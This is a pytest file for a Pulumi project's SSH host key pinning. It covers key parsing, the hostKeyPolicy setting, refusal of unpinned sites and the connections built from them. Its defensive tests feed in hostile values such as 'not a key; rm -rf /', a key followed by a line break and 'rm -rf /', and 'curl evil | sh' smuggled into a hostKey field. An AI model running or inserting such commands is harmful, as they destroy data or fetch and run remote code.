"""Pinned host keys: the hostKey grammar, ssh.hostKeyPolicy, where a site without keys is
refused, and the connections that carry the keys to pulumi-command."""

from __future__ import annotations

import base64
import shutil
import subprocess
from pathlib import Path

import pytest
from pulumi.runtime import rpc

from model.ssh_keys import HostKeyError, parse_host_key
from stacks.__main__ import main
from stacks.config import ConfigError, load_site
from stacks.host_keys import check_host_keys, reviewing, targets
from stacks.render import RecordingMonitor, StandInProviders, evaluate, map_secrets, run_program
from stacks.stackfile import read_stack_file
from tests.conftest import PROJECT_DIR, pinned, sample_host_key, three_node_site, write_stack_file

needs_ssh_keygen = pytest.mark.skipif(
    shutil.which("ssh-keygen") is None, reason="needs ssh-keygen (openssh-client)"
)


def keygen(directory: Path, kind: str, bits: int | None = None) -> tuple[str, str, str]:
    """A new key pair of `kind`: its .pub line, and `ssh-keygen -l`'s bits and fingerprint."""
    path = directory / f"key_{kind}_{bits or 0}"
    size = ["-b", str(bits)] if bits else []
    subprocess.run(
        ["ssh-keygen", "-q", "-t", kind, *size, "-N", "", "-C", "root@node1", "-f", str(path)],
        check=True,
    )
    listed = subprocess.run(
        ["ssh-keygen", "-l", "-E", "sha256", "-f", f"{path}.pub"],
        check=True,
        capture_output=True,
        text=True,
    ).stdout.split()
    return path.with_suffix(path.suffix + ".pub").read_text().strip(), listed[0], listed[1]


def wire(*parts: bytes) -> str:
    return base64.b64encode(b"".join(len(p).to_bytes(4, "big") + p for p in parts)).decode()


# ---- the grammar -----------------------------------------------------------------------------


@needs_ssh_keygen
@pytest.mark.parametrize(
    ("kind", "bits", "label"),
    [
        ("ed25519", None, "ED25519"),
        ("ecdsa", 256, "ECDSA"),
        ("ecdsa", 384, "ECDSA"),
        ("ecdsa", 521, "ECDSA"),
        ("rsa", 2048, "RSA"),
    ],
)
def test_real_keys_parse_with_ssh_keygens_fingerprint(tmp_path, kind, bits, label) -> None:
    line, listed_bits, fingerprint = keygen(tmp_path, kind, bits)
    key = parse_host_key(line)
    key_type, encoded, _comment = line.split()
    assert key.text == f"{key_type} {encoded}"  # the comment is dropped
    assert key.fingerprint == fingerprint
    assert key.label == f"{listed_bits} {fingerprint} ({label})"


def test_security_key_types_are_accepted() -> None:
    ed = wire(b"sk-ssh-ed25519@openssh.com", b"\x01" * 32, b"ssh:")
    parsed = parse_host_key(f"sk-ssh-ed25519@openssh.com {ed}")
    assert parsed.label.endswith("(ED25519-SK)")
    point = b"\x04" + b"\x02" * 64
    ecdsa = wire(b"sk-ecdsa-sha2-nistp256@openssh.com", b"nistp256", point, b"ssh:")
    assert parse_host_key(f"sk-ecdsa-sha2-nistp256@openssh.com {ecdsa}").bits == 256


ED = sample_host_key("node1").split()[1]
HOSTILE = [
    ("not a key; rm -rf /", "'not a key; rm -rf /' is not an SSH public key: the key type must"),
    (f"ssh-ed25519 {ED}\nrm -rf /", "holds control characters (a line break?)"),
    (f"ssh-ed25519 {ED}\x1b[2J", "holds control characters"),
    (f"node1.example.com ssh-ed25519 {ED}", "starts with the host name 'node1.example.com'"),
    (f"@cert-authority * ssh-ed25519 {ED}", "'@cert-authority' is a known_hosts marker"),
    (f"ssh-ed25519 {ED[:-3]}", "is not base64 (cut short when copied?)"),
    (f"ssh-ed25519 {ED[:-4]}", "does not decode to a ssh-ed25519 key"),
    (f"ssh-ed25519 {ED}AAAA", "does not decode to a ssh-ed25519 key"),
    (f"ecdsa-sha2-nistp256 {ED}", "the key after ecdsa-sha2-nistp256 is a ssh-ed25519 key"),
    (f"ssh-ed25519 {wire(b'ssh-ed25519', b'short')}", "does not decode to a ssh-ed25519 key"),
    ("ssh-ed25519", "ssh-ed25519 has no key after it"),
    (f"ssh-dss {wire(b'ssh-dss', b'p', b'q', b'g', b'y')}", "ssh-dss (DSA) host keys are obsolete"),
    (f"ssh-ed25519-cert-v01@openssh.com {ED}", "is a host certificate"),
    ("ssh-rsa " + wire(b"ssh-rsa", b"\x01\x00\x01", b"\x7f" * 64), "shorter than 1024 bits"),
    ("ssh-ed25519 " + "A" * 20000, "20012 characters is too long for a host key"),
    ("   ", "is empty"),
    ("[secret]", "a host key is public: store it in plain text"),
]


@pytest.mark.parametrize(("text", "says"), HOSTILE, ids=[text[:24] for text, _ in HOSTILE])
def test_hostile_host_keys_are_one_line_errors(text, says) -> None:
    with pytest.raises(HostKeyError) as raised:
        parse_host_key(text)
    message = str(raised.value)
    assert says in message
    assert "\n" not in message and "\x1b" not in message
    assert len(message) < 400  # a long paste is not echoed whole


def test_a_pasted_private_key_is_refused_and_never_echoed() -> None:
    private = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA-secret\n-----END"
    with pytest.raises(HostKeyError) as raised:
        parse_host_key(private)
    assert "this is a private key" in str(raised.value)
    assert "secret" not in str(raised.value)


def test_a_bad_host_key_is_a_config_error_naming_its_key() -> None:
    values = three_node_site()
    values["nodes"][1]["ssh"] = {"hostKey": "not a key; rm -rf /"}  # type: ignore[index]
    with pytest.raises(ConfigError) as raised:
        load_site(values)
    assert str(raised.value).startswith(
        "convecthub:nodes[1].ssh.hostKey: 'not a key; rm -rf /' is not an SSH public key"
    )
    values["nodes"][1]["ssh"] = {}  # type: ignore[index]
    values["ssh"] = {"bastion": {"host": "10.0.0.2", "hostKey": "ssh-ed25519 !!"}}
    with pytest.raises(ConfigError) as raised:
        load_site(values)
    assert str(raised.value).startswith("convecthub:ssh.bastion.hostKey: the ssh-ed25519 key")


def test_render_of_a_bad_host_key_exits_2_with_one_line(tmp_path, capsys) -> None:
    values = three_node_site()
    values["ssh"] = {"hostKey": "ssh-ed25519 AAAA; curl evil | sh"}
    code = main(["render", str(write_stack_file(tmp_path, values))])
    captured = capsys.readouterr()
    assert code == 2
    assert captured.err.startswith("error: convecthub:ssh.hostKey: ")
    assert len(captured.err.splitlines()) == 1


def test_the_model_keeps_the_key_without_its_comment() -> None:
    key = sample_host_key("master")
    values = three_node_site()
    values["nodes"][0]["ssh"] = {"hostKey": f"  {key}   root@master  "}  # type: ignore[index]
    site = load_site(values).site
    assert site.ssh_for(site.nodes[0]).host_key == key


# ---- the policy ------------------------------------------------------------------------------


def test_the_policy_is_pinned_unless_the_site_or_the_node_says_otherwise() -> None:
    values = three_node_site()
    site = load_site(values).site
    assert [site.ssh_for(node).policy for node in site.nodes] == ["pinned"] * 3
    values["ssh"] = {"hostKeyPolicy": "accept-new"}
    values["nodes"][2]["ssh"] = {"hostKeyPolicy": "insecure"}  # type: ignore[index]
    site = load_site(values).site
    assert [site.ssh_for(node).policy for node in site.nodes] == [
        "accept-new",
        "accept-new",
        "insecure",
    ]


def test_an_unknown_policy_is_one_line() -> None:
    values = three_node_site()
    values["ssh"] = {"hostKeyPolicy": "yes"}
    with pytest.raises(ConfigError) as raised:
        load_site(values)
    assert str(raised.value) == (
        "convecthub:ssh.hostKeyPolicy: 'yes' is not allowed here: use 'pinned', 'accept-new' "
        "or 'insecure'"
    )


def test_pinned_refuses_a_node_without_a_key_in_one_line_saying_how_to_pin() -> None:
    values = pinned(three_node_site())
    del values["nodes"][1]["ssh"]  # type: ignore[index]
    site = load_site(values).site
    with pytest.raises(ConfigError) as raised:
        check_host_keys(site, "prod", refuse=True)
    assert str(raised.value) == (
        "convecthub:nodes[1].ssh.hostKey: node worker1 has no hostKey and hostKeyPolicy is "
        "pinned (the default): collect and pin the keys with `python -m stacks known-hosts "
        "--stack prod --write`, or set convecthub:ssh.hostKeyPolicy to accept-new (trust on "
        "first use) or insecure"
    )
    # In review (the render) the same line is a warning.
    warnings = check_host_keys(site, "prod", refuse=False)
    assert warnings == [f"{raised.value} (preview and up refuse this site)"]


def test_the_refusal_names_the_others_without_a_key_too() -> None:
    site = load_site(three_node_site()).site
    with pytest.raises(ConfigError) as raised:
        check_host_keys(site, "prod", refuse=True)
    assert "node master has no hostKey" in str(raised.value)
    assert "(nor do worker1, worker2)" in str(raised.value)


def test_accept_new_and_insecure_warn_once_each_and_refuse_nothing() -> None:
    values = pinned(three_node_site())
    values["nodes"][0]["ssh"] = {"hostKeyPolicy": "accept-new"}  # type: ignore[index]
    values["nodes"][2]["ssh"] = {"hostKeyPolicy": "insecure"}  # type: ignore[index]
    site = load_site(values).site
    first_contact, insecure = check_host_keys(site, "prod", refuse=True)
    assert first_contact.startswith("hostKeyPolicy accept-new: no host key recorded yet for master")
    assert "`python -m stacks up --stack prod` records the keys" in first_contact
    assert insecure.startswith("hostKeyPolicy insecure: worker2 accept any host key")
    assert "python -m stacks known-hosts --stack prod --write" in insecure


def test_a_given_key_is_pinned_whatever_the_policy() -> None:
    values = pinned(three_node_site())
    values["ssh"] = {"hostKeyPolicy": "insecure"}
    site = load_site(values).site
    assert check_host_keys(site, "prod", refuse=True) == []


def test_a_bastion_without_a_key_is_refused_under_pinned() -> None:
    values = pinned(three_node_site())
    values["ssh"] = {"bastion": {"host": "203.0.113.5", "user": "jump"}}
    site = load_site(values).site
    with pytest.raises(ConfigError) as raised:
        check_host_keys(site, "prod", refuse=True)
    assert str(raised.value).startswith(
        "convecthub:ssh.bastion.hostKey: bastion 203.0.113.5 has no hostKey and hostKeyPolicy "
        "is pinned"
    )
    values["ssh"]["bastion"]["hostKey"] = sample_host_key("bastion")  # type: ignore[index]
    assert check_host_keys(load_site(values).site, "prod", refuse=True) == []


def test_a_node_of_its_own_bastion_is_told_by_its_own_key_path() -> None:
    values = pinned(three_node_site())
    values["nodes"][2]["ssh"]["bastion"] = {"host": "198.51.100.7"}  # type: ignore[index]
    site = load_site(values).site
    bastions = [target for target in targets(site) if target.kind == "bastion"]
    assert [(b.name, b.key_path) for b in bastions] == [
        ("198.51.100.7", "convecthub:nodes[2].ssh.bastion.hostKey")
    ]
    with pytest.raises(ConfigError) as raised:
        check_host_keys(site, "prod", refuse=True)
    assert str(raised.value).startswith("convecthub:nodes[2].ssh.bastion.hostKey: bastion ")


# ---- where the refusal is raised -------------------------------------------------------------


class RawMonitor(RecordingMonitor):
    """Each resource's inputs as the engine gets them, secrets still marked."""

    def __init__(self) -> None:
        super().__init__(StandInProviders())
        self.raw: dict[str, dict] = {}

    def RegisterResource(self, request):  # noqa: N802 (the gRPC method's name)
        response = super().RegisterResource(request)
        self.raw[request.name] = rpc.deserialize_properties(request.object)
        return response


def test_the_program_refuses_an_unpinned_site_before_any_resource(tmp_path) -> None:
    """As under `pulumi preview` and `pulumi up`: one line, and nothing registered."""
    stack = read_stack_file(write_stack_file(tmp_path, three_node_site()))
    monitor = RawMonitor()
    with pytest.raises(ConfigError) as raised:
        run_program(stack, monitor, preview=True)
    assert str(raised.value).startswith("convecthub:nodes[0].ssh.hostKey: node master has no")
    assert "--stack test --write" in str(raised.value)
    assert [r["type"] for r in monitor.recorded] == ["pulumi:pulumi:Stack"]


def test_the_render_shows_the_refusal_as_a_warning_and_goes_on(tmp_path, capsys) -> None:
    code = main(["render", str(write_stack_file(tmp_path, three_node_site()))])
    captured = capsys.readouterr()
    assert code == 0
    assert captured.err.startswith("warning: convecthub:nodes[0].ssh.hostKey: node master has")
    assert captured.err.rstrip().endswith("(preview and up refuse this site)")
    assert "3 node(s)" in captured.out


@pytest.mark.parametrize("stack_file", ["Pulumi.dev.yaml", "examples/Pulumi.seed-vagrant.yaml"])
def test_the_projects_stack_files_still_render(stack_file, tmp_path, monkeypatch, capsys) -> None:
    (tmp_path / ".ssh").mkdir()
    (tmp_path / ".ssh" / "id_rsa").write_text("a key file the example names\n")
    monkeypatch.setenv("HOME", str(tmp_path))
    assert main(["render", str(PROJECT_DIR / stack_file)]) == 0
    warnings = capsys.readouterr().err.splitlines()
    assert warnings and all(line.startswith("warning: ") for line in warnings)


def test_the_dev_site_trusts_the_provisioners_key_on_first_use() -> None:
    stack = read_stack_file(PROJECT_DIR / "Pulumi.dev.yaml")
    from stacks.config import decode_config

    site = load_site(decode_config(stack.config), stack.secret_keys).site
    assert [site.ssh_for(node).policy for node in site.nodes] == ["accept-new"]
    warnings = check_host_keys(site, "dev", refuse=True)
    assert warnings[0].startswith("hostKeyPolicy accept-new: no host key recorded yet for local")


# ---- the connections -------------------------------------------------------------------------


def test_every_connection_carries_its_nodes_key_and_the_bastions(tmp_path) -> None:
    values = pinned(three_node_site())
    bastion_key = sample_host_key("bastion")
    values["ssh"] = {"bastion": {"host": "203.0.113.5", "user": "jump", "hostKey": bastion_key}}
    stack = read_stack_file(write_stack_file(tmp_path, values))
    monitor = RawMonitor()
    run_program(stack, monitor, preview=True)
    connections = {
        name: map_secrets(inputs["connection"], lambda value: value)
        for name, inputs in monitor.raw.items()
        if "connection" in inputs
    }
    assert len(connections) > 3
    names = {node["host"]: node["name"] for node in values["nodes"]}  # type: ignore[attr-defined]
    for name, connection in connections.items():
        assert connection["hostKey"] == sample_host_key(names[connection["host"]]), name
        assert connection["proxy"]["hostKey"] == bastion_key, name
        assert connection["proxy"]["host"] == "203.0.113.5"


def test_the_same_pinned_site_renders_the_same_connections(tmp_path) -> None:
    values = pinned(three_node_site())
    first = evaluate(read_stack_file(write_stack_file(tmp_path, values)))
    second = evaluate(read_stack_file(write_stack_file(tmp_path, values)))
    assert first.as_json() == second.as_json()


def test_review_mode_ends_with_its_block(tmp_path) -> None:
    stack = read_stack_file(write_stack_file(tmp_path, three_node_site()))
    with reviewing():
        run_program(stack, RawMonitor(), preview=True)
    with pytest.raises(ConfigError):
        run_program(stack, RawMonitor(), preview=True)
